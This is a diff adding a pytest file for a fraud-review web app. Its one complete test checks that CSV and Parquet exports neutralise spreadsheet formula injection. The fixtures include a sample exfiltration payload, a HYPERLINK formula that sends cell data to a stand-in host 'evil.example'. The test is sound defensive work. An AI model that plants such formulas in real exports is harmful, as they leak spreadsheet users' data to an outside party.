@@ -1,0 +1,108 @@
+"""The review app against an attacker: exports that cannot run formulas in a spreadsheet,
+login throttling that an attacker cannot turn against a real user, no user-name oracle in
+the login's timing, messages only the app itself can show, and cookies that stay on TLS."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pandas as pd
+import pytest
+from fastapi.testclient import TestClient
+
+from pipelines.accounts import hash_password
+from pipelines.settings import VigilSettings
+from pipelines.store import ResultsStore
+from review import create_app
+from tests.review_fixtures import add_flagged_run
+
+PASSWORD = "correct horse battery"
+FORMULA_ID = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
+FORMULA_NOTE = "@SUM(1+1)"
+
+
+@pytest.fixture(scope="module")
+def password_hash() -> str:
+    return hash_password(PASSWORD)
+
+
+@pytest.fixture
+def store(tmp_path, password_hash) -> ResultsStore:
+    store = ResultsStore(f"sqlite:///{tmp_path / 'review.db'}")
+    for name, role in (("ana", "analyst"), ("bob", "analyst")):
+        store.add_user(name, role, password_hash, actor="test")
+    add_flagged_run(
+        store,
+        batch_id="b1",
+        flags=[(FORMULA_ID, "+card1", 4.0), ("r2", "card2", 3.0), ("r3", "card3", 2.0)],
+    )
+    return store
+
+
+@pytest.fixture
+def settings(tmp_path) -> VigilSettings:
+    return VigilSettings(home=tmp_path)
+
+
+@pytest.fixture
+def app(store, settings):
+    return create_app(store, settings)
+
+
+def client_at(app, address: str, **kwargs) -> TestClient:
+    """A browser at ``address`` (the app sees it as the peer's address)."""
+    return TestClient(app, follow_redirects=False, client=(address, 50000), **kwargs)
+
+
+def try_login(client: TestClient, name: str, password: str):
+    page = client.get("/login")
+    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
+    return client.post(
+        "/login", data={"username": name, "password": password, "csrf_token": csrf, "next": "/"}
+    )
+
+
+def logged_in(app, name: str, address: str = "10.0.0.1") -> TestClient:
+    client = client_at(app, address)
+    response = try_login(client, name, PASSWORD)
+    assert response.status_code == 303 and response.headers["location"] == "/", response.text
+    return client
+
+
+def csrf_of(client: TestClient) -> str:
+    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/queue").text).group(1)
+
+
+# -- exports --------------------------------------------------------------------------
+
+
+def test_export_neutralises_formula_injection(app, store):
+    case_id = next(i["id"] for i in store.queue_page().items if i["record_ids"] == [FORMULA_ID])
+    store.give_verdict(case_id, "ana", "fraud", note=FORMULA_NOTE)
+    store.give_verdict(
+        next(i["id"] for i in store.queue_page().items if i["record_ids"] == ["r2"]),
+        "ana",
+        "not_fraud",
+        note="-2 seen before\tok",
+    )
+    ana = logged_in(app, "ana")
+    token = store.create_token("ana", actor="test")
+    api = TestClient(app, headers={"Authorization": f"Bearer {token}"})
+    frames = {
+        "page csv": pd.read_csv(io.StringIO(ana.get("/export/labels.csv").text), dtype=str),
+        "page parquet": pd.read_parquet(io.BytesIO(ana.get("/export/labels.parquet").content)),
+        "api csv": pd.read_csv(io.StringIO(api.get("/api/labels?format=csv").text), dtype=str),
+        "api parquet": pd.read_parquet(io.BytesIO(api.get("/api/labels?format=parquet").content)),
+    }
+    for where, frame in frames.items():
+        assert set(frame["record_id"]) == {"'" + FORMULA_ID, "r2"}, where
+        assert set(frame["entity"]) == {"'+card1", "card2"}, where
+        assert set(frame["note"]) == {"'" + FORMULA_NOTE, "'-2 seen before\tok"}, where
+        for column in frame.columns:  # no string cell a spreadsheet would evaluate
+            for value in frame[column].dropna():
+                assert not (isinstance(value, str) and value[:1] in "=+-@\t\r"), (where, value)
+    # Numbers stay numbers: only text cells are quoted.
+    raw = list(csv.DictReader(io.StringIO(ana.get("/export/labels.csv").text)))
+    assert all(not row["label_id"].startswith("'") for row in raw)
